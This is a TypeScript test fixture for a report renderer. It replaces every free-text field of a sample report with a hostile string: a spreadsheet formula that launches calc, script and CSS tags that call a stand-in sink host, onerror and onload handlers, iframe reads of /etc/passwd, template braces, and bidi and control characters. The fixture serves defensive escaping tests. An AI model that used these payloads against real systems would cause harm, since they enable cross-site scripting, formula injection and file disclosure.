/** Text that tries to become markup, code, a formula, a path or another order of letters, in every free-text field of a report source. */
import type { ReportSource } from '../../src/model/report.ts'
import { reportSource } from './fixture.ts'

/** One string that carries every attack; `at` makes it unlike the others. */
export function hostile(at: string): string {
  return [
    `=cmd|'/c calc'!A1`,
    `"><script>fetch('https://sink.invalid/${at}')</script>`,
    `<img src="https://sink.invalid/img" onerror="alert(1)">`,
    `</style><style>@import url(https://sink.invalid/css);</style>`,
    `<svg onload=alert(1)><use href="https://sink.invalid/x.svg#a"/></svg>`,
    `<iframe src="file:///etc/passwd"></iframe><meta http-equiv="refresh" content="0;url=file:///etc/passwd">`,
    `{{constructor}}{{{raw}}}{{> cover}}`,
    `javascript:alert(1) file:///etc/passwd`,
    `\u202eevil\u2066\u200b\u0000\u001b[31m \r\n+SUM(A1)`,
    `';}*{color:red}\\27 /* */`,
  ].join(' ')
}

/** Names by which the view recognises a member; the rest of a source's strings is free text. */
export const CLOSED = new Set([
  ...[
    'kind',
    'verdict',
    'outcome',
    'class',
    'status',
    'state',
    'method',
    'noun',
    'format',
    'trigger',
    'cause',
    'why',
    'effect',
    'direction',
  ],
  ...[
    'digest',
    'root',
    'snapshot',
    'catalogue',
    'caDigest',
    'rule-set',
    'segmentation',
    'scope',
    'rights',
    'protocol',
    'via',
    'statedBy',
    'cluster',
    'framework',
    'control',
    'id',
    'from',
    'to',
    'waiversLift',
  ],
  ...[
    'takenFrom',
    'takenTo',
    'startedAt',
    'finishedAt',
    'generatedAt',
    'slot',
    'asOf',
    'evaluatedAt',
    'runId',
  ],
])

/** Text in the place of what stands at a path of a source. */
export type Filling = (path: string) => string

/** The fixture with every free-text string replaced. */
export function hostileSource(): ReportSource {
  return filledSource(hostile)
}

/** The fixture with other text in the place of each free-text string. */
export function filledSource(text: Filling): ReportSource {
  return poisoned(reportSource(), '', text) as ReportSource
}

function poisoned(value: unknown, path: string, text: Filling): unknown {
  if (typeof value === 'string') return text(path)
  if (Array.isArray(value))
    return value.map((item, index) => poisoned(item, `${path}/${index}`, text))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([name, member]) => [
      name,
      CLOSED.has(name) && typeof member === 'string'
        ? member
        : poisoned(member, `${path}/${name}`, text),
    ]),
  )
}
